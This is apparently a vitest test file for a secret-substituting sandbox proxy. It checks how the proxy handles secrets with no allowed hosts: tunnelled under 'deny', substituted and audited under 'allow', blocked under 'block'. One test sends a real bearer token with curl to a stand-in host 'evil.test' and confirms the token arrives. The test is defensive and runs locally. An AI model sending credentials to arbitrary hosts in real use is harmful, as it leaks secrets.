/**
 * Secrets without hosts through the proxy: under `unrestricted: "deny"` (the default) they make no
 * host intercepted and are never substituted; under `allow` every substitution is audited as
 * unrestricted. Every event carries its time. Real curl
 * against a real HTTPS upstream on 127.0.0.1.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { InvalidProxyOptions } from "../src/index.js"
import { authorizationOf, connectRaw } from "./support/client.js"
import { installed, makeWorld, run, type World } from "./support/world.js"

const VALUE = "tok_Unrestr1cted_5a2b"
const hasCurl = installed("curl")

let world: World
beforeAll(async () => {
  world = await makeWorld()
})
afterAll(() => world.close())

describe("a secret without hosts, through the proxy", () => {
  it("unrestricted: deny makes no host intercepted: the connection is tunnelled", async () => {
    const sandbox = await world.sandbox({ any: [VALUE] }, { unrestricted: "deny" })
    const connected = await connectRaw(world.proxy, `evil.test:${world.https.port}`, authorizationOf(sandbox.registration.proxyUrl))
    expect(connected.status).toBe(200)
    connected.socket.destroy()
    expect(sandbox.events).toEqual([expect.objectContaining({ type: "tunnelled", host: "evil.test" })])
  })

  it("by default (deny) too: no host is intercepted for it, the connection is tunnelled", async () => {
    const sandbox = await world.sandbox({ any: [VALUE] })
    const connected = await connectRaw(world.proxy, `evil.test:${world.https.port}`, authorizationOf(sandbox.registration.proxyUrl))
    expect(connected.status).toBe(200)
    connected.socket.destroy()
    expect(sandbox.events).toEqual([expect.objectContaining({ type: "tunnelled", host: "evil.test" })])
  })

  it.skipIf(!hasCurl)("under unrestricted: allow, it is substituted for any host, and the event says unrestricted; every event has its time", async () => {
    const sandbox = await world.sandbox({ any: [VALUE] }, { unrestricted: "allow" })
    const ran = await run("curl", ["-sS", "--fail", "--cacert", `${world.proxy.bundle.caFile}`, "-H", `Authorization: Bearer ${sandbox.mount.env.ANY}`, world.https.url("evil.test", "/echo?q=1")], sandbox.env)
    expect(ran.code).toBe(0)
    expect(world.https.received.at(-1)!.headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(sandbox.events).toEqual([
      expect.objectContaining({ type: "intercepted", host: "evil.test", time: expect.any(String) }),
      expect.objectContaining({ type: "substituted", secret: "any", unrestricted: true, sandbox: sandbox.registration.id, method: "GET", host: "evil.test", port: world.https.port, path: "/echo" })
    ])
    for (const event of sandbox.events) expect(new Date(event.time).toISOString()).toBe(event.time)
  })

  it.skipIf(!hasCurl)("by default under block, it is blocked (403) before anything is sent", async () => {
    const sandbox = await world.sandbox({ any: [VALUE] }, { onDisallowed: "block" })
    const before = world.https.received.length
    const ran = await run("curl", ["-sS", "-w", "\n%{http_code}", "--cacert", `${world.proxy.bundle.caFile}`, "-H", `Authorization: Bearer ${sandbox.mount.env.ANY}`, world.https.url("api.allowed.test", "/echo")], sandbox.env)
    expect(ran.stdout).toMatch(/403$/)
    expect(ran.stdout).toContain("the secret has no hosts")
    expect(world.https.received.length).toBe(before)
    expect(sandbox.events).toContainEqual(expect.objectContaining({ type: "blocked", reason: "unrestricted" }))
  })

  it("refuses another policy with InvalidProxyOptions", async () => {
    const resolver = await world.gate.resolver(await world.gate.mount({}))
    expect(() => world.proxy.register({ resolver, unrestricted: "maybe" as never })).toThrow(InvalidProxyOptions)
  })
})
